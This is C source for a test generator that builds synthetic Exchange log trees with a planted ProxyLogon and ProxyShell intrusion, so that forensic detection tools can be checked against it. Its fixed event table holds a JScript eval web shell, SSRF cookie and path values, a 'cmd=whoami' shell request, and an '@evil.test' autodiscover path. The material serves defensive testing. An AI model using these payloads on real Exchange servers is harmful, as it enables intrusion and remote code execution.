/* gentree: a deterministic generator of Exchange server evidence trees, for the end-to-end
 * tests and the benchmark.
 *
 *   gentree [options] DIR          write the tree as a folder
 *   gentree --story [options] DIR  the same, with what the intrusion left beside the logs
 *   gentree [options] --zip FILE   the same tree as a zip (member paths relative to the root)
 *   gentree [options] --tar-gz FILE
 *   gentree --robust KIND DIR      a small tree with one kind of hostile input (see usage)
 *
 * What a tree holds (catalogue sections 1 and 8): HttpProxy logs per protocol, hourly; the ECP
 * Server log; an OAB generator log; CmdletInfra Rps_Http and Rps_Cmdlet logs; IIS W3C logs of
 * the front end (W3SVC1, 443) and the back end (W3SVC2, 444). CRLF line ends, RFC 4180 quoting
 * where Exchange quotes, build 15.1.2176.2 (Exchange 2016 CU19, unpatched in March 2021) until
 * its March 2021 security update (15.1.2176.9) goes on at midnight on 6 March: files opened
 * and rows written from then on carry the new build, as after an update's restart.
 *
 * Benign traffic comes from the client types a real server sees (Outlook over MAPI/HTTP and
 * RPC/HTTP, ActiveSync devices, OWA browsers, EWS clients, Autodiscover XML and JSON, admin
 * Remote PowerShell, ECP admin use, Managed Availability probes, a zgrab version scan). The
 * planted intrusion (left out with --benign) is a fixed table of rows, each one written the
 * same way whatever the seed and the scale, so that findings can be asserted exactly.
 * --story adds the files that intrusion left beside its logs (the web shells, the event logs,
 * an LSASS dump, a staging archive: see the --story section), without changing a log.
 *
 * Everything is synthetic: documentation IP ranges for outside addresses, 10.x inside,
 * contoso.test and evil.test names, dates in early March 2021.
 *
 * Memory stays bounded whatever --scale asks: rows are built one at a time and written
 * through stdio; archive members are spooled to a temporary file, then copied into the
 * archive when they are complete (libarchive needs the size first for tar).
 */
#include <archive.h>
#include <archive_entry.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "core/timeparse.h"
#include "evtxwriter.h"
#include "fixfiles.h"
#include "mkarchive.h"
#include "parsers/csv.h"

/* ------------------------------------------------------------------------------------------ */
/* Small helpers                                                                              */

static void die(const char *what)
{
    fprintf(stderr, "gentree: %s: %s\n", what, errno ? strerror(errno) : "failed");
    exit(2);
}

/* splitmix64: tiny, fast, good enough for test data, identical on every platform. */
typedef struct rng {
    uint64_t s;
} rng;

static uint64_t rnd(rng *r)
{
    uint64_t z = (r->s += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

static uint32_t below(rng *r, uint32_t n)
{
    return n ? (uint32_t)(rnd(r) % n) : 0;
}

static rng rng_make(uint64_t seed, uint64_t a, uint64_t b)
{
    rng r = {seed * 0x100000001b3ull ^ (a << 32) ^ b ^ 0x6a09e667f3bcc909ull};
    rnd(&r);
    rnd(&r);
    return r;
}

static uint64_t hash_str(const char *s)
{
    uint64_t h = 1469598103934665603ull;
    for (; *s; s++)
        h = (h ^ (unsigned char)*s) * 1099511628211ull;
    return h;
}

/* A growable-free string builder over a fixed buffer (rows are far below its size, except
 * for the robustness fixtures, which write long parts directly). */
#define SB_CAP (256 * 1024)
typedef struct sb {
    char *p;
    size_t n;
} sb;

static void sb_putn(sb *b, const char *s, size_t n)
{
    if (b->n + n >= SB_CAP)
        n = SB_CAP - 1 - b->n;
    memcpy(b->p + b->n, s, n);
    b->n += n;
}

static void sb_put(sb *b, const char *s)
{
    if (s)
        sb_putn(b, s, strlen(s));
}

static void sb_putc(sb *b, char c)
{
    if (b->n + 1 < SB_CAP)
        b->p[b->n++] = c;
}

static void sb_u(sb *b, uint64_t v)
{
    char t[24];
    int i = 0;
    do {
        t[i++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (i)
        sb_putc(b, t[--i]);
}

static void sb_pad(sb *b, unsigned v, int width)
{
    char t[8];
    for (int i = width - 1; i >= 0; i--) {
        t[i] = (char)('0' + v % 10);
        v /= 10;
    }
    sb_putn(b, t, (size_t)width);
}

static void sb_hex(sb *b, uint64_t v, int digits, bool upper)
{
    const char *d = upper ? "0123456789ABCDEF" : "0123456789abcdef";
    for (int i = digits - 1; i >= 0; i--)
        sb_putc(b, d[(v >> (4 * i)) & 15]);
}

static void sb_guid(sb *b, rng *r)
{
    uint64_t a = rnd(r), c = rnd(r);
    sb_hex(b, a >> 32, 8, false);
    sb_putc(b, '-');
    sb_hex(b, (a >> 16) & 0xffff, 4, false);
    sb_putc(b, '-');
    sb_hex(b, 0x4000 | (a & 0x0fff), 4, false);
    sb_putc(b, '-');
    sb_hex(b, 0x8000 | ((c >> 48) & 0x3fff), 4, false);
    sb_putc(b, '-');
    sb_hex(b, c & 0xffffffffffffull, 12, false);
}

/* A GUID as a NUL-terminated string (out holds at least 37 bytes). */
static void guid_str(char *out, rng *r)
{
    sb b = {out, 0};
    sb_guid(&b, r);
    out[b.n] = 0;
}

/* Time: UTC milliseconds since the epoch (the calendar arithmetic of core/timeparse). */
static int64_t ms_of(int y, unsigned mo, unsigned d, unsigned h, unsigned mi, unsigned s,
                     unsigned ms)
{
    return ((xs_days_from_civil(y, mo, d) * 24 + h) * 60 + mi) * 60000 + s * 1000 + ms;
}

typedef struct tm_parts {
    int y;
    unsigned mo, d, h, mi, s, ms;
} tm_parts;

static tm_parts split_ms(int64_t t)
{
    tm_parts p;
    int64_t days = t / 86400000, rem = t % 86400000;
    xs_civil_from_days(days, &p.y, &p.mo, &p.d);
    p.h = (unsigned)(rem / 3600000);
    p.mi = (unsigned)(rem / 60000 % 60);
    p.s = (unsigned)(rem / 1000 % 60);
    p.ms = (unsigned)(rem % 1000);
    return p;
}

/* "2021-03-03T06:49:42.162Z" */
static void sb_iso(sb *b, int64_t t)
{
    tm_parts p = split_ms(t);
    sb_pad(b, (unsigned)p.y, 4);
    sb_putc(b, '-');
    sb_pad(b, p.mo, 2);
    sb_putc(b, '-');
    sb_pad(b, p.d, 2);
    sb_putc(b, 'T');
    sb_pad(b, p.h, 2);
    sb_putc(b, ':');
    sb_pad(b, p.mi, 2);
    sb_putc(b, ':');
    sb_pad(b, p.s, 2);
    sb_putc(b, '.');
    sb_pad(b, p.ms, 3);
    sb_putc(b, 'Z');
}

/* "2021-03-03" and "06:49:42" */
static void sb_w3c_date(sb *b, int64_t t)
{
    tm_parts p = split_ms(t);
    sb_pad(b, (unsigned)p.y, 4);
    sb_putc(b, '-');
    sb_pad(b, p.mo, 2);
    sb_putc(b, '-');
    sb_pad(b, p.d, 2);
}

static void sb_w3c_time(sb *b, int64_t t)
{
    tm_parts p = split_ms(t);
    sb_pad(b, p.h, 2);
    sb_putc(b, ':');
    sb_pad(b, p.mi, 2);
    sb_putc(b, ':');
    sb_pad(b, p.s, 2);
}

/* Parses "2021-03-03T06:49:42.162Z" (the planted table is written that way). */
static int64_t iso(const char *s)
{
    unsigned y, mo, d, h, mi, sec, ms;
    if (sscanf(s, "%4u-%2u-%2uT%2u:%2u:%2u.%3uZ", &y, &mo, &d, &h, &mi, &sec, &ms) != 7) {
        fprintf(stderr, "gentree: bad time in table: %s\n", s);
        exit(2);
    }
    return ms_of((int)y, mo, d, h, mi, sec, ms);
}

/* RFC 4180: quote a field when it holds a comma, a quote or a line break. */
static void sb_csv(sb *b, const char *s)
{
    if (!s)
        return;
    if (!strpbrk(s, ",\"\r\n")) {
        sb_put(b, s);
        return;
    }
    sb_putc(b, '"');
    for (; *s; s++) {
        if (*s == '"')
            sb_putc(b, '"');
        sb_putc(b, *s);
    }
    sb_putc(b, '"');
}

static void sb_crlf(sb *b)
{
    sb_putn(b, "\r\n", 2);
}

/* ------------------------------------------------------------------------------------------ */
/* Output: a folder, or an archive written with libarchive                                    */

typedef struct member {
    char path[512]; /* relative to the tree root */
    FILE *f;
    uint64_t bytes;
    int64_t last_ms; /* newest row: the file's mtime */
    bool open;
} member;

typedef struct out {
    const char *root;  /* folder mode */
    struct archive *a; /* archive mode */
    uint64_t total;    /* bytes of every member */
    uint64_t files;
} out;

static void mkdirs(const char *path)
{
    char tmp[1024];
    snprintf(tmp, sizeof tmp, "%s", path);
    for (char *p = tmp + 1; *p; p++) {
        if (*p != '/')
            continue;
        *p = 0;
        if (mkdir(tmp, 0755) != 0 && errno != EEXIST)
            die(tmp);
        *p = '/';
    }
}

static void m_open(out *o, member *m, const char *rel)
{
    memset(m, 0, sizeof *m);
    snprintf(m->path, sizeof m->path, "%s", rel);
    if (o->a) {
        m->f = tmpfile();
    } else {
        char full[1024];
        snprintf(full, sizeof full, "%s/%s", o->root, rel);
        mkdirs(full);
        m->f = fopen(full, "wb");
    }
    if (!m->f)
        die(rel);
    setvbuf(m->f, NULL, _IOFBF, 1 << 18);
    m->open = true;
    m->last_ms = INT64_MIN;
}

static void m_write(out *o, member *m, const char *p, size_t n)
{
    if (fwrite(p, 1, n, m->f) != n)
        die(m->path);
    m->bytes += n;
    o->total += n;
}

static void m_row(out *o, member *m, sb *b, int64_t t)
{
    m_write(o, m, b->p, b->n);
    b->n = 0;
    if (t > m->last_ms)
        m->last_ms = t;
}

#define FIXED_MTIME 1615248000 /* 2021-03-09T00:00:00Z */

static void m_close(out *o, member *m)
{
    if (!m->open)
        return;
    m->open = false;
    o->files++;
    time_t mt = m->last_ms == INT64_MIN ? FIXED_MTIME : (time_t)(m->last_ms / 1000);
    if (!o->a) {
        if (fflush(m->f) != 0)
            die(m->path);
        struct timespec ts[2] = {{mt, 0}, {mt, 0}};
        futimens(fileno(m->f), ts);
        if (fclose(m->f) != 0)
            die(m->path);
        m->f = NULL;
        return;
    }
    if (fflush(m->f) != 0)
        die(m->path);
    struct archive_entry *e = archive_entry_new();
    archive_entry_set_pathname(e, m->path);
    archive_entry_set_size(e, (la_int64_t)m->bytes);
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_mtime(e, mt, 0);
    archive_entry_set_uid(e, 0);
    archive_entry_set_gid(e, 0);
    if (archive_write_header(o->a, e) != ARCHIVE_OK) {
        fprintf(stderr, "gentree: %s: %s\n", m->path, archive_error_string(o->a));
        exit(2);
    }
    rewind(m->f);
    static char buf[1 << 16];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, m->f)) > 0)
        if (archive_write_data(o->a, buf, n) != (la_ssize_t)n) {
            fprintf(stderr, "gentree: %s: %s\n", m->path, archive_error_string(o->a));
            exit(2);
        }
    archive_entry_free(e);
    fclose(m->f);
    m->f = NULL;
}

/* ------------------------------------------------------------------------------------------ */
/* The server                                                                                 */

#define SERVER "EXCH01"
#define SERVER_FQDN "EXCH01.contoso.test"
#define SERVER_IP "10.0.0.5"
#define MACHINE_ACCOUNT "CONTOSO\\EXCH01$"
#define BUILD_DOTTED_OLD "15.01.2176.002"
#define BUILD_DOTTED_NEW "15.01.2176.009"
#define BUILD_CU "15.1.2176"
#define OWA_VER "15.1.2176"
#define UPDATE_AT "2021-03-06T00:00:00.000Z" /* Mar21SU installed */

static int64_t iso(const char *s);

/* Whether the update is on at t. */
static bool updated(int64_t t)
{
    static int64_t at;
    if (!at)
        at = iso(UPDATE_AT);
    return t >= at;
}

static const char *build_dotted(int64_t t)
{
    return updated(t) ? BUILD_DOTTED_NEW : BUILD_DOTTED_OLD;
}

static const char *build_rev(int64_t t)
{
    return updated(t) ? "9" : "2";
}

typedef struct layout {
    const char *exch;     /* install root, relative */
    const char *iis;      /* IIS LogFiles folder, relative */
    const char *exch_win; /* the install root as Windows writes it */
} layout;

static const layout layout_default = {"C/Program Files/Microsoft/Exchange Server/V15",
                                      "C/inetpub/logs/LogFiles",
                                      "C:\\Program Files\\Microsoft\\Exchange Server\\V15"};
static const layout layout_alt = {"E/Exchange/V15", "D/inetpub/logs/LogFiles", "E:\\Exchange\\V15"};

/* HttpProxy protocol folders. */
enum proto {
    P_NONE = -1,
    P_AUTODISCOVER,
    P_EAS,
    P_ECP,
    P_EWS,
    P_MAPI,
    P_OAB,
    P_OWA,
    P_POWERSHELL,
    P_RPCHTTP,
    P__COUNT
};
static const char *const proto_dir[P__COUNT] = {
    "Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Oab", "Owa", "PowerShell", "RpcHttp"};

/* Catalogue 1.3: the 74 columns of build 15.01.2375.007 (unchanged in CU19). */
static const char *const hp_fields[74] = {"DateTime",
                                          "RequestId",
                                          "MajorVersion",
                                          "MinorVersion",
                                          "BuildVersion",
                                          "RevisionVersion",
                                          "ClientRequestId",
                                          "Protocol",
                                          "UrlHost",
                                          "UrlStem",
                                          "ProtocolAction",
                                          "AuthenticationType",
                                          "IsAuthenticated",
                                          "AuthenticatedUser",
                                          "Organization",
                                          "AnchorMailbox",
                                          "UserAgent",
                                          "ClientIpAddress",
                                          "ServerHostName",
                                          "HttpStatus",
                                          "BackEndStatus",
                                          "ErrorCode",
                                          "Method",
                                          "ProxyAction",
                                          "TargetServer",
                                          "TargetServerVersion",
                                          "RoutingType",
                                          "RoutingHint",
                                          "BackEndCookie",
                                          "ServerLocatorHost",
                                          "ServerLocatorLatency",
                                          "RequestBytes",
                                          "ResponseBytes",
                                          "TargetOutstandingRequests",
                                          "AuthModulePerfContext",
                                          "HttpPipelineLatency",
                                          "CalculateTargetBackEndLatency",
                                          "GlsLatencyBreakup",
                                          "TotalGlsLatency",
                                          "AccountForestLatencyBreakup",
                                          "TotalAccountForestLatency",
                                          "ResourceForestLatencyBreakup",
                                          "TotalResourceForestLatency",
                                          "ADLatency",
                                          "SharedCacheLatencyBreakup",
                                          "TotalSharedCacheLatency",
                                          "ActivityContextLifeTime",
                                          "ModuleToHandlerSwitchingLatency",
                                          "ClientReqStreamLatency",
                                          "BackendReqInitLatency",
                                          "BackendReqStreamLatency",
                                          "BackendProcessingLatency",
                                          "BackendRespInitLatency",
                                          "BackendRespStreamLatency",
                                          "ClientRespStreamLatency",
                                          "KerberosAuthHeaderLatency",
                                          "HandlerCompletionLatency",
                                          "RequestHandlerLatency",
                                          "HandlerToModuleSwitchingLatency",
                                          "ProxyTime",
                                          "CoreLatency",
                                          "RoutingLatency",
                                          "HttpProxyOverhead",
                                          "TotalRequestTime",
                                          "RouteRefresherLatency",
                                          "UrlQuery",
                                          "BackEndGenericInfo",
                                          "GenericInfo",
                                          "GenericErrors",
                                          "EdgeTraceId",
                                          "DatabaseGuid",
                                          "UserADObjectGuid",
                                          "PartitionEndpointLookupLatency",
                                          "RoutingStatus"};

/* The Remote PowerShell field lists are the library's own defaults (lib/parsers/csv.c): the
 * generator writes what the reader expects a headerless file to hold. */
#define rps_http_fields xs_csv_fields_rpshttp
#define rps_cmdlet_fields xs_csv_fields_rpscmdlet

/* IIS field sets. The default one is Exchange's (catalogue 1.7); the other is what an admin
 * who ticked more boxes gets, in IIS's own order, written mid-file when the site restarts. */
enum w3f {
    W_DATE,
    W_TIME,
    W_SITENAME,
    W_COMPUTER,
    W_SIP,
    W_METHOD,
    W_STEM,
    W_QUERY,
    W_SPORT,
    W_USER,
    W_CIP,
    W_VERSION,
    W_UA,
    W_REFERER,
    W_HOST,
    W_STATUS,
    W_SUBSTATUS,
    W_WIN32,
    W_SCBYTES,
    W_CSBYTES,
    W_TAKEN,
    W__END
};
static const char *const w3f_name[W__END] = {
    "date",      "time",         "s-sitename",      "s-computername", "s-ip",
    "cs-method", "cs-uri-stem",  "cs-uri-query",    "s-port",         "cs-username",
    "c-ip",      "cs-version",   "cs(User-Agent)",  "cs(Referer)",    "cs-host",
    "sc-status", "sc-substatus", "sc-win32-status", "sc-bytes",       "cs-bytes",
    "time-taken"};
static const int w3_default[] = {W_DATE,      W_TIME,  W_SIP,   W_METHOD, W_STEM,    W_QUERY,
                                 W_SPORT,     W_USER,  W_CIP,   W_UA,     W_REFERER, W_STATUS,
                                 W_SUBSTATUS, W_WIN32, W_TAKEN, W__END};
static const int w3_extended[] = {
    W_DATE,      W_TIME,  W_SITENAME, W_COMPUTER, W_SIP,   W_METHOD,  W_STEM, W_QUERY,
    W_SPORT,     W_USER,  W_CIP,      W_VERSION,  W_UA,    W_REFERER, W_HOST, W_STATUS,
    W_SUBSTATUS, W_WIN32, W_SCBYTES,  W_CSBYTES,  W_TAKEN, W__END};

/* ------------------------------------------------------------------------------------------ */
/* Events: one web request (written to HttpProxy, W3SVC1 and W3SVC2 as it applies), or one    */
/* line of another log.                                                                       */

enum ev_kind { EV_REQ, EV_ECP, EV_OAB, EV_RPSHTTP, EV_CMDLET };

/* Where a request is written. */
#define D_HP 1u /* HttpProxy/<proto> */
#define D_FE 2u /* IIS W3SVC1 */
#define D_BE 4u /* IIS W3SVC2 */

typedef struct ev {
    const char *when; /* planted table: ISO time */
    int64_t t;
    int kind;
    bool planted; /* false: a fixed benign event, kept with --benign */
    unsigned dest;
    /* request */
    int proto;
    const char *method, *host, *stem, *query, *ua, *ip, *user, *auth, *anchor, *hint, *action;
    int status;
    int port;
    const char *be_stem, *be_query, *be_user; /* back end, when it differs from the front */
    int be_status;
    const char *referer;
    /* other logs: ECP S:CMD item / OAB message / cmdlet / Rps_Http query */
    const char *text;
    const char *name;   /* cmdlet name; Rps_Http CommandName */
    const char *client; /* ClientApplication / ClientInfo */
    const char *url;    /* ECP S:URL, NULL for none */
} ev;

/* ------------------------------------------------------------------------------------------ */
/* The planted intrusion and the fixed benign events. Times are UTC.                          */

#define UA_PYREQ "python-requests/2.25.1"
#define UA_ESC0 "ExchangeServicesClient/0.0.0.0"
#define A_PL "203.0.113.21"    /* ProxyLogon actor */
#define A_POLL "203.0.113.45"  /* owner of the look-alike shell */
#define A_HUNT "198.51.100.77" /* shell hunter */
#define A_SCAN "198.51.100.23" /* nmap ProxyLogon check */
#define A_PS "198.51.100.7"    /* ProxyShell */
#define A_PNS "203.0.113.88"   /* ProxyNotShell */
#define A_OWASSRF "203.0.113.99"
#define CANARY1 "kT4mQ9sWzE2xVb7nR1cY0hUjLpA3dF8gI6oN5eKqSwM."
#define CANARY2 "Zp8cH2vN6tB0mXq4wJr7kYs1LdE9fGu3aIo5TyPjRlC."
#define SSRF_PFX "ServerInfo~a]@" SERVER_FQDN ":444/"
#define UA_CHROME_OLD                                                                              \
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "            \
    "Chrome/88.0.4324.182 Safari/537.36"
#define UA_CHROME105                                                                               \
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "            \
    "Chrome/105.0.5195.54 Safari/537.36"
#define WEBSHELL_JS                                                                                \
    "<script language=\"JScript\" runat=\"server\">function "                                      \
    "Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>"
#define OAB_ID "4f3c2b1a-9e8d-4c7b-a6f5-0e1d2c3b4a59"

/* One step of the ProxyLogon chain: the carrier POST to /ecp/y.js on the front end, the SSRF
 * target in AnchorMailbox (HttpProxy/Ecp) and the request the back end saw. */
#define PL_STEP(when_, host_, ua_, target_, bestem_, bequery_, status_)                            \
    {                                                                                              \
        .when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE | D_BE,                \
        .proto = P_ECP, .method = "POST", .host = host_, .stem = "/ecp/y.js", .ua = ua_,           \
        .ip = A_PL, .auth = "", .anchor = SSRF_PFX target_, .hint = "X-BEResource-Cookie",         \
        .status = status_, .be_stem = bestem_, .be_query = bequery_, .be_user = MACHINE_ACCOUNT,   \
        .be_status = status_                                                                       \
    }

#define SHELL_GET(when_, ip_, stem_, query_, ua_, status_)                                         \
    {                                                                                              \
        .when = when_, .kind = EV_REQ, .planted = true, .dest = D_HP | D_FE, .proto = P_OWA,       \
        .method = "GET", .host = "mail.contoso.test", .stem = stem_, .query = query_, .ua = ua_,   \
        .ip = ip_, .auth = "", .status = status_                                                   \
    }

static ev fixed[] = {
    /* --- benign, always present ------------------------------------------------------------ */
    /* An admin sets the OWA external URL in ECP (catalogue 8.3 negative). */
    {.when = "2021-03-02T10:15:21.905Z",
     .kind = EV_REQ,
     .dest = D_HP | D_FE | D_BE,
     .proto = P_ECP,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/ecp/DDI/DDIService.svc/SetObject",
     .query = "schema=OwaVirtualDirectory&msExchEcpCanary="
              "Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0.",
     .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
     .ip = "10.1.10.5",
     .user = "CONTOSO\\exadmin",
     .auth = "FBA",
     .anchor = "Sid~S-1-5-21-1004336348-1177238915-682003330-1107",
     .hint = "Sid-Cookie",
     .status = 200,
     .referer = "https://mail.contoso.test/ecp/"},
    {.when = "2021-03-02T10:15:22.481Z",
     .kind = EV_ECP,
     .text = "'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.test/"
             "owa''.Identity=''" SERVER "\\owa (Default Web Site)'''",
     .url = "/ecp/DDI/DDIService.svc/"
            "SetObject?schema=OwaVirtualDirectory&msExchEcpCanary="
            "Vb1mXq4wJr7kYs2LdE9fGu3aIo5TyPjRlCZp8cH2vN6tB0."},
    /* OAB generation writes to its own Temp folder: not the exploit (catalogue 2.3). */
    {.when = "2021-03-02T02:00:14.310Z",
     .kind = EV_OAB,
     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID
             "\\data-1.lzx' needs to be removed."},
    {.when = "2021-03-05T02:00:12.127Z",
     .kind = EV_OAB,
     .text = "Download failed and temporary file '%ROOT%\\ClientAccess\\OAB\\Temp\\" OAB_ID
             "\\lng0409-1.lzx' needs to be removed."},
    /* zgrab reads the Exchange version from the eDiscovery export tool manifest. */
    {.when = "2021-03-04T11:47:32.435Z",
     .kind = EV_REQ,
     .dest = D_HP | D_FE | D_BE,
     .proto = P_ECP,
     .method = "GET",
     .host = "203.0.113.10",
     .stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
     .ua = "Mozilla/5.0 zgrab/0.x",
     .ip = "198.51.100.140",
     .auth = "FBA",
     .anchor = "ServerVersion~Version 15.0 (Build 0.0)",
     .hint = "EDiscoveryExportTool-ServerVersion",
     .status = 200},
    {.when = "2021-03-06T23:05:09.618Z",
     .kind = EV_REQ,
     .dest = D_HP | D_FE | D_BE,
     .proto = P_ECP,
     .method = "GET",
     .host = "203.0.113.10",
     .stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
     .ua = "Mozilla/5.0 zgrab/0.x",
     .ip = "198.51.100.141",
     .auth = "FBA",
     .anchor = "ServerVersion~Version 15.0 (Build 0.0)",
     .hint = "EDiscoveryExportTool-ServerVersion",
     .status = 200},

    /* --- planted: ProxyLogon, actor 203.0.113.21, 2021-03-03 -------------------------------- */
    /* First session (HttpProxy/Ecp file with the bare header first). */
    PL_STEP("2021-03-03T06:49:42.162Z", "mail.contoso.test", UA_ESC0,
            "autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", NULL, 200),
    PL_STEP("2021-03-03T06:49:43.699Z", "mail.contoso.test", UA_PYREQ, "mapi/emsmdb/?#",
            "/mapi/emsmdb/", NULL, 200),
    PL_STEP("2021-03-03T06:49:46.210Z", "mail.contoso.test", UA_PYREQ, "ecp/proxyLogon.ecp?#",
            "/ecp/proxyLogon.ecp", NULL, 241),
    PL_STEP("2021-03-03T06:49:51.543Z", "mail.contoso.test", UA_PYREQ,
            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY1
            "&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/GetObject",
            "msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory", 200),
    PL_STEP("2021-03-03T06:49:53.698Z", "mail.contoso.test", UA_PYREQ,
            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
            "&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/SetObject",
            "msExchEcpCanary=" CANARY1 "&schema=OABVirtualDirectory", 200),
    /* The ECP Server log of that SetObject: script in ExternalUrl, with S:URL after it. */
    {.when = "2021-03-03T06:49:53.772Z",
     .kind = EV_ECP,
     .planted = true,
     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS
             "''.Identity=''" OAB_ID "'''",
     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
            "&schema=OABVirtualDirectory"},
    {.when = "2021-03-03T06:49:58.835Z",
     .kind = EV_ECP,
     .planted = true,
     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''" OAB_ID "'''",
     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY1
            "&schema=OABVirtualDirectory"},
    /* Second session (HttpProxy/Ecp file with a duplicated column name): goes on to the reset. */
    PL_STEP("2021-03-03T07:12:10.817Z", "autodiscover.contoso.test", UA_ESC0,
            "autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", NULL, 200),
    PL_STEP("2021-03-03T07:12:11.840Z", "autodiscover.contoso.test", UA_PYREQ, "mapi/emsmdb/?#",
            "/mapi/emsmdb/", NULL, 200),
    PL_STEP("2021-03-03T07:12:13.030Z", "autodiscover.contoso.test", UA_PYREQ,
            "ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", NULL, 241),
    PL_STEP("2021-03-03T07:12:14.588Z", "autodiscover.contoso.test", UA_PYREQ,
            "ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" CANARY2
            "&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/GetObject",
            "msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory", 200),
    PL_STEP("2021-03-03T07:12:18.042Z", "autodiscover.contoso.test", UA_PYREQ,
            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
            "&schema=OABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/SetObject",
            "msExchEcpCanary=" CANARY2 "&schema=OABVirtualDirectory", 200),
    /* The same cmdlet, logged without S:URL. */
    {.when = "2021-03-03T07:12:17.960Z",
     .kind = EV_ECP,
     .planted = true,
     .text = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" WEBSHELL_JS
             "''.Identity=''" OAB_ID "'''"},
    PL_STEP("2021-03-03T07:12:20.359Z", "autodiscover.contoso.test", UA_PYREQ,
            "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
            "&schema=ResetOABVirtualDirectory#",
            "/ecp/DDI/DDIService.svc/SetObject",
            "msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory", 200),
    {.when = "2021-03-03T07:12:20.717Z",
     .kind = EV_ECP,
     .planted = true,
     .text = "'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''" SERVER
             "\\OAB (Default Web Site)'''",
     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
            "&schema=ResetOABVirtualDirectory"},
    {.when = "2021-03-03T07:12:28.396Z",
     .kind = EV_ECP,
     .planted = true,
     .text = "'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''" SERVER
             "''.Role=''ClientAccess''.InternalURL=''https://" SERVER_FQDN
             "/OAB''.Path=''%ROOT%\\FrontEnd\\HttpProxy\\OAB'''",
     .url = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
            "&schema=ResetOABVirtualDirectory"},
    /* CVE-2021-26858: the OAB generator wrote outside its folder. */
    {.when = "2021-03-03T07:14:03.117Z",
     .kind = EV_OAB,
     .planted = true,
     .text = "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' "
             "needs to be removed."},
    /* China Chopper driven by antSword on the dropped file. */
    {.when = "2021-03-03T07:15:10.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/aspnet_client/x.aspx",
     .ua = "antSword/v2.1",
     .ip = A_PL,
     .status = 200},
    {.when = "2021-03-03T07:15:31.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/aspnet_client/x.aspx",
     .ua = "antSword/v2.1",
     .ip = A_PL,
     .status = 200},
    /* The shell written by the reset, asked to run whoami. */
    SHELL_GET("2021-03-03T07:20:05.342Z", A_PL, "/owa/auth/errorEE.aspx", "cmd=whoami", UA_PYREQ,
              200),

    /* --- planted: a scanner checks for ProxyLogon (Microsoft's nmap script), 2021-03-04 ----- */
    {.when = "2021-03-04T10:41:11.464Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_HP | D_FE,
     .proto = P_OWA,
     .method = "GET",
     .host = "mail.contoso.test",
     .stem = "/owa/auth/x.js",
     .ua = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
     .ip = A_SCAN,
     .auth = "FBA",
     .anchor = "ServerInfo~localhost/ecp/default.flt?",
     .hint = "X-AnonResource-Backend-Cookie",
     .status = 500},

    /* --- planted: ProxyShell, 2021-03-04 ---------------------------------------------------- */
    {.when = "2021-03-04T14:02:11.000Z",
     .kind = EV_REQ,
     .planted = true,
     .dest = D_FE,
     .method = "POST",
     .host = "mail.contoso.test",
     .stem = "/autodiscover/autodiscover.json",
     .query = "@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.test",
     .ua = "python-requests/2.26.0",
